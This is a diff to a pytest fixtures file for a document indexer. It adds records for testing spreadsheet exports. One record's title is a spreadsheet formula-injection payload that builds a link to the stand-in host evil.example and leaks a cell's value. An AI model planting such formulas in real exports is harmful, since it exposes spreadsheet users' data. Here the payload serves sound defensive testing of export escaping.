@@ -4,7 +4,8 @@
 - Corpora: ``write_corpus`` is the one way to make a small corpus of shipped records;
   ``small_corpus`` is the one most tests search (built once per session).
 - Indexes: ``small_index`` (``small_corpus`` rebuilt once per session, one segment) with its
-  ``engine``, ``snapshot`` and Falcon ``client``; ``multi_segment_index`` (written by two
+  ``engine``, ``snapshot`` and Falcon ``client``; ``spreadsheet_index`` (a few records of each
+  file and ``SPREADSHEET_RECORDS``, for exports); ``multi_segment_index`` (written by two
   writer processes); ``published_copy`` (a copy of both, for a test that changes them).
 - Commands: ``cli`` runs ``indexer.cli.main(argv)`` in this process; ``indexer_process``
   runs ``python -m indexer`` as a process of its own, for tests that kill it or limit it.
@@ -71,6 +72,23 @@ XSS_RECORD = {
     "language": "fi",
     "date": "2021-05-05",
 }
+# Records a spreadsheet could misread (exports, ``test_export``) and dated in every way
+# (histograms): a formula for a title; quotes, semicolons, commas and a line break in a title
+# and its text; a title and text beginning with a sign; a year without a date; neither.
+SPREADSHEET_RECORDS = [
+    {"id": "export:formula", "language": "fi", "date": "2021-03-04",
+     "title": '=HYPERLINK("https://evil.example/?leak="&A1;"Avaa")',
+     "body": "Tarkastuslautakunta arvioi kaupungin talousarvion toteutumista."},
+    {"id": "export:quotes", "language": "fi", "date": "2021-03-20",
+     "title": 'Päätös "A"; kohta 2, liite 3\nJatkuu toisella rivillä',
+     "body": 'Kaupunginhallitus päätti: "hyväksytään"; lisäksi, todettiin arvio valmiiksi.'},
+    {"id": "export:signs", "language": "fi", "date": "2022-11-15",
+     "title": "-5 % määrärahoista", "body": "+1 tarkastuslautakunta @kaupunki ehdotti."},
+    {"id": "export:year-only", "language": "fi", "year": 2019,
+     "title": "Vuosikertomus", "body": "Tarkastuslautakunnan vuosikertomus ilman päivää."},
+    {"id": "export:undated", "language": "fi",
+     "title": "Muistio", "body": "Tarkastuslautakunnan muistio ilman aikaa."},
+]
 # The small corpus: 20 Swedish court decisions with their Finnish twins, 20 other Finnish
 # ones, 45 Helsinki agenda items and 45 UK written answers, the seed pages, and two records
 # with markup in their text.
@@ -177,6 +195,15 @@ def small_index(small_corpus: Path) -> Path:
     index_dir = small_corpus.parent / "index"
     rebuild([small_corpus], index_dir, jobs=1)
     return index_dir
+
+
+@pytest.fixture(scope="session")
+def spreadsheet_index(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Eight records of each shipped file (and twins), no pages, and ``SPREADSHEET_RECORDS``."""
+    root = tmp_path_factory.mktemp("spreadsheet")
+    rebuild([_write_corpus(root / "corpus", 8, pages=False, extra=SPREADSHEET_RECORDS)],
+            root / "index", jobs=1)
+    return root / "index"
 
 
 @pytest.fixture(scope="session")
